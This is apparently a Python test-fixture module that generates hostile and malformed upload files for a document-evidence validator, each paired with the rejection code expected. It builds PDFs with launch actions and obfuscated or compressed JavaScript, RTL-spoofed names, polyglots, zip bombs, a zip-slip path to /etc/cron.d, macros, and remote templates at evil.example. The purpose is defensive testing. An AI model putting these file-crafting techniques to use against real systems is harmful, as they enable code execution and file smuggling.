"""Files that are not what they say, or that mean harm; each named by what it tries, with what is said of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from PIL import Image
from pypdf import PdfWriter

from tests.factories.papers import (
    DOCX,
    HEAD,
    JPEG,
    OFD,
    PDF,
    PNG,
    XLSX,
    docx_parts,
    ofd_parts,
    package,
    pdf,
    xlsx_parts,
)

EXE = b"MZ\x90\x00\x03" + bytes(200)
MACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


@dataclass(frozen=True)
class Hostile:
    """A file, the name it comes under, and the message it is refused with."""

    title: str
    name: str
    make: Callable[[], bytes]
    message: str


def attached(name: str, content: bytes = b"text") -> bytes:
    """Make a PDF that carries a file."""
    writer = PdfWriter(io.BytesIO(PDF))
    writer.add_attachment(name, content)
    return written(writer)


def locked(password: str) -> bytes:
    """Make a PDF that asks for a password; an empty one only forbids printing and the like."""
    writer = PdfWriter(io.BytesIO(PDF))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    """Write a PDF."""
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def hidden_script() -> bytes:
    """Make a PDF whose script lies in a compressed stream of objects."""
    body = b"12 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
    packed = zlib.compress(body)
    head = b"%PDF-1.5\n"
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 12 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        4: b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed),
    }
    made, places = head, {}
    for number, one in objects.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(made)
    rows = [struct.pack("!BIB", 0, 0, 0)]
    rows += [struct.pack("!BIB", 1, places[number], 0) for number in objects]
    rows += [struct.pack("!BIB", 0, 0, 0)] * 7
    rows += [struct.pack("!BIB", 2, 4, 0), struct.pack("!BIB", 1, start, 0)]
    table = b"".join(rows)
    made += b"13 0 obj\n<</Type/XRef/W[1 4 1]/Size 14/Root 1 0 R/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    return made + b"startxref\n%d\n%%%%EOF\n" % start


def png(width: int, height: int, *more: bytes) -> bytes:
    """Make a PNG that says how large it is and holds nothing of it."""
    head = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def chunk(name: bytes, data: bytes) -> bytes:
    """Make a part of a PNG."""
    return struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))


def huge_jpeg() -> bytes:
    """Make a JPEG whose head says it is enormous."""
    at = JPEG.index(b"\xff\xc0")
    return JPEG[: at + 5] + struct.pack("!HH", 60000, 60000) + JPEG[at + 9 :]


def with_parts(parts: dict[str, str | bytes], **more: str | bytes) -> bytes:
    """Pack parts with further ones; `__` in a name stands for a slash, `_dot_` for a dot."""
    return package(parts | {name.replace("__", "/").replace("_dot_", "."): one for name, one in more.items()})


def relation(kind: str, target: str) -> str:
    """Make the relations of a part with one that leads out of the package."""
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="rId1" Type="{schema}/{kind}" Target="{target}" TargetMode="External"/>'
    return f"{HEAD}<Relationships>{one}</Relationships>"


def saying(size: int) -> bytes:
    """Have a package say of its last part, of a megabyte, that it unpacks to so many bytes."""
    made = bytearray(package(docx_parts() | {"word/media/white.bmp": bytes(1024 * 1024)}))
    struct.pack_into("<I", made, made.rindex(b"PK\x01\x02") + 24, size)
    return bytes(made)


def twice() -> bytes:
    """Pack two parts under one name: programs differ in which they read."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        for name, content in (*docx_parts().items(), ("WORD/document.xml", "<other/>")):
            packed.writestr(name, content)
    return made.getvalue()


def locked_package() -> bytes:
    """Have a package say that its parts are locked."""
    made = bytearray(DOCX)
    at = made.index(b"PK\x01\x02")
    made[at + 8] |= 1
    return bytes(made)


def jpeg_with(segment: bytes) -> bytes:
    """Make a JPEG with a comment."""
    return JPEG[:2] + b"\xff\xfe" + struct.pack("!H", len(segment) + 2) + segment + JPEG[2:]


LAUNCH = "<</Type/Action/S/Launch/F(cmd.exe)>>"
SCRIPT = "<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>"
TEMPLATE = "word___rels__settings_dot_xml_dot_rels"
HOSTILE = (
    Hostile("a program called a PDF", "凭证.pdf", lambda: EXE, "evidence.wrong-kind"),
    Hostile("a program by its name", "凭证.exe", lambda: EXE, "evidence.extension"),
    Hostile("two extensions", "凭证.pdf.exe", lambda: PDF, "evidence.extension"),
    Hostile("a name that reads backwards", "凭证\u202efdp.exe", lambda: EXE, "evidence.extension"),
    Hostile("a page", "页面.html", lambda: b"<html><script>alert(1)</script>", "evidence.extension"),
    Hostile("a page called a picture", "图.png", lambda: b"<html><script>alert(1)</script>", "evidence.wrong-kind"),
    Hostile("a drawing with scripts", "图.svg", lambda: b"<svg onload='alert(1)'/>", "evidence.extension"),
    Hostile("a drawing called a picture", "图.jpg", lambda: b"<svg onload='alert(1)'/>", "evidence.wrong-kind"),
    Hostile("nothing", "空.pdf", lambda: b"", "evidence.empty"),
    Hostile("a cut PDF", "凭证.pdf", lambda: PDF[:-200], "evidence.damaged"),
    Hostile("the head of a PDF", "凭证.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "evidence.damaged"),
    Hostile("a PDF that does not begin as one", "凭证.pdf", lambda: b"GIF89a;" + PDF, "evidence.wrong-kind"),
    Hostile("a version nobody knows", "凭证.pdf", lambda: b"%PDF-9.9" + PDF[8:], "evidence.damaged"),
    Hostile("a PDF without pages", "凭证.pdf", lambda: pdf(pages=0), "evidence.damaged"),
    Hostile("a PDF with a password", "凭证.pdf", lambda: locked("secret"), "evidence.pdf-password"),
    Hostile(
        "a PDF that starts a program",
        "凭证.pdf",
        lambda: pdf(objects=(LAUNCH,), catalog="/OpenAction 10 0 R"),
        "evidence.pdf-active",
    ),
    Hostile("a script in the catalog", "凭证.pdf", lambda: pdf(catalog=f"/OpenAction {SCRIPT}"), "evidence.pdf-active"),
    Hostile(
        "a script with its name in code",
        "凭证.pdf",
        lambda: pdf(objects=("<</S/J#61vaScript/#4aS 11 0 R>>", "(x)"), catalog="/OpenAction 10 0 R"),
        "evidence.pdf-active",
    ),
    Hostile("a script packed away", "凭证.pdf", hidden_script, "evidence.pdf-active"),
    Hostile(
        "a form that makes itself",
        "凭证.pdf",
        lambda: pdf(objects=("<</XFA(x)/Fields[]>>",), catalog="/AcroForm 10 0 R"),
        "evidence.pdf-active",
    ),
    Hostile("a PDF carrying a program", "凭证.pdf", lambda: attached("run.exe", EXE), "evidence.pdf-attachment"),
    Hostile("a program in it called a table", "凭证.pdf", lambda: attached("a.csv", EXE), "evidence.pdf-attachment"),
    Hostile("a PDF with an archive behind it", "凭证.pdf", lambda: PDF + DOCX, "evidence.mixed"),
    Hostile("an archive within, and an end behind it", "凭证.pdf", lambda: PDF + DOCX + b"\n%%EOF\n", "evidence.mixed"),
    Hostile("a PDF with a page behind it", "凭证.pdf", lambda: PDF + b"<script>alert(1)</script>", "evidence.mixed"),
    Hostile("a cut photograph", "图.jpg", lambda: JPEG[: len(JPEG) // 2], "evidence.damaged"),
    Hostile("the head of a photograph", "图.jpg", lambda: JPEG[:20], "evidence.damaged"),
    Hostile("an enormous photograph", "图.jpg", huge_jpeg, "evidence.picture-too-large"),
    Hostile("a photograph with an archive behind it", "图.jpg", lambda: JPEG + DOCX, "evidence.mixed"),
    Hostile("a photograph with a page behind it", "图.jpg", lambda: JPEG + b"<html><script>", "evidence.mixed"),
    Hostile("a page in a photograph's comment", "图.jpg", lambda: jpeg_with(b"<HTML><body>"), "evidence.mixed"),
    Hostile("a photograph that is a PDF too", "图.jpg", lambda: jpeg_with(b"%PDF-1.4 "), "evidence.mixed"),
    Hostile("a PNG called a photograph", "图.jpg", lambda: PNG, "evidence.wrong-kind"),
    Hostile("a cut picture", "图.png", lambda: PNG[:-30], "evidence.damaged"),
    Hostile("a picture with one wrong byte", "图.png", lambda: PNG[:45] + b"\x00" + PNG[46:], "evidence.damaged"),
    Hostile("a picture that is only said to be one", "图.png", lambda: png(10, 10), "evidence.damaged"),
    Hostile("an enormous picture", "图.png", lambda: png(40_000, 40_000), "evidence.picture-too-large"),
    Hostile("an endless strip", "图.png", lambda: png(1, 31_000), "evidence.picture-too-large"),
    Hostile("a picture with an archive behind it", "图.png", lambda: PNG + DOCX, "evidence.mixed"),
    Hostile(
        "a page in a picture's text",
        "图.png",
        lambda: png(1, 1, chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")),
        "evidence.mixed",
    ),
    Hostile("an archive called a text", "文.docx", lambda: package({"readme.txt": "x"}), "evidence.wrong-kind"),
    Hostile("a workbook called a text", "文.docx", lambda: XLSX, "evidence.wrong-kind"),
    Hostile("a text called an OFD", "票.ofd", lambda: DOCX, "evidence.wrong-kind"),
    Hostile("no archive at all", "文.docx", lambda: b"PK\x03\x04 not a package", "evidence.damaged"),
    Hostile("a cut text", "文.docx", lambda: DOCX[:-40], "evidence.damaged"),
    Hostile("a text with more behind it", "文.docx", lambda: DOCX + b"<script>", "evidence.mixed"),
    Hostile("two parts of one name", "文.docx", twice, "evidence.unpacks"),
    Hostile("a locked text", "文.docx", locked_package, "evidence.package-password"),
    Hostile("a bomb", "文.docx", lambda: saying(400 * 1024 * 1024), "evidence.unpacks"),
    Hostile("a bomb that lies", "文.docx", lambda: saying(10), "evidence.damaged"),
    Hostile("a way out", "文.docx", lambda: package(docx_parts() | {"../../etc/cron.d/x": "x"}), "evidence.mixed"),
    Hostile("macros", "表.xlsx", lambda: with_parts(xlsx_parts(), xl__vbaProject_dot_bin=b"x"), "evidence.macros"),
    Hostile(
        "macros in capitals",
        "表.xlsx",
        lambda: with_parts(xlsx_parts(), xl__VBAPROJECT_dot_BIN=b"x"),
        "evidence.macros",
    ),
    Hostile(
        "macros by their type",
        "表.xlsx",
        lambda: package(xlsx_parts() | {"[Content_Types].xml": f'<Types><Override ContentType="{MACRO}"/></Types>'}),
        "evidence.macros",
    ),
    Hostile(
        "an object within",
        "文.docx",
        lambda: with_parts(docx_parts(), word__embeddings__oleObject1_dot_bin=b"x"),
        "evidence.embedded",
    ),
    Hostile(
        "a control within",
        "文.docx",
        lambda: with_parts(docx_parts(), word__activeX__a_dot_xml="<a/>"),
        "evidence.embedded",
    ),
    Hostile(
        "a program called a picture within",
        "文.docx",
        lambda: with_parts(docx_parts(), word__media__a_dot_png=EXE),
        "evidence.embedded",
    ),
    Hostile(
        "a workbook with macros within",
        "文.docx",
        lambda: with_parts(
            docx_parts(), word__embeddings__a_dot_xlsx=with_parts(xlsx_parts(), xl__vbaProject_dot_bin=b"x")
        ),
        "evidence.macros",
    ),
    Hostile(
        "a template from afar",
        "文.docx",
        lambda: with_parts(docx_parts(), **{TEMPLATE: relation("attachedTemplate", "https://evil.example/t.dotm")}),
        "evidence.fetches",
    ),
    Hostile(
        "an object on a share",
        "文.docx",
        lambda: with_parts(docx_parts(), **{TEMPLATE: relation("oleObject", "file://evil.example/share/x")}),
        "evidence.fetches",
    ),
    Hostile(
        "a link that runs a program",
        "表.xlsx",
        lambda: with_parts(xlsx_parts(), xl__externalLinks__a_dot_xml="<externalLink><ddeLink/></externalLink>"),
        "evidence.embedded",
    ),
    Hostile(
        "entities",
        "文.docx",
        lambda: package(docx_parts() | {"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "evidence.unpacks",
    ),
    Hostile(
        "a program in an invoice", "票.ofd", lambda: with_parts(ofd_parts(), Doc_0__a_dot_exe=b"x"), "evidence.embedded"
    ),
)


def phone_photo() -> bytes:
    """Make a photograph as telephones do: another one behind it, smaller."""
    return JPEG + JPEG


def turned() -> bytes:
    """Make a photograph that says it lies on its side."""
    made = io.BytesIO()
    picture = Image.new("RGB", (60, 20), "white")
    exif = picture.getexif()
    exif[0x0112] = 6
    picture.save(made, "JPEG", exif=exif)
    return made.getvalue()


HARMLESS = (
    ("an invoice with its data", "发票.pdf", partial(attached, "invoice.xml", b"<invoice/>")),
    ("a PDF that forbids printing", "公文.pdf", partial(locked, "")),
    ("a PDF with blanks behind its end", "公文.pdf", lambda: PDF + b"\r\n\x00\x00"),
    ("a PDF saved again", "公文.pdf", lambda: PDF + PDF[PDF.index(b"xref") :]),
    ("a photograph of a telephone", "现场.jpeg", phone_photo),
    ("a text with a chart", "文.docx", lambda: with_parts(docx_parts(), word__embeddings__a_dot_xlsx=XLSX)),
    (
        "a text with its template at home",
        "文.docx",
        lambda: with_parts(
            docx_parts(), **{TEMPLATE: relation("attachedTemplate", "file:///C:/Users/wang/Normal.dotm")}
        ),
    ),
    (
        "a text with links",
        "文.docx",
        lambda: with_parts(docx_parts(), **{TEMPLATE: relation("hyperlink", "https://www.example.cn/")}),
    ),
    (
        "a workbook with a printer's settings",
        "表.xlsx",
        lambda: with_parts(xlsx_parts(), xl__printerSettings__p_dot_bin=b"x"),
    ),
    ("a workbook with boxes to tick", "表.xlsx", lambda: with_parts(xlsx_parts(), xl__ctrlProps__c1_dot_xml="<a/>")),
    ("an invoice", "发票.ofd", lambda: OFD),
)
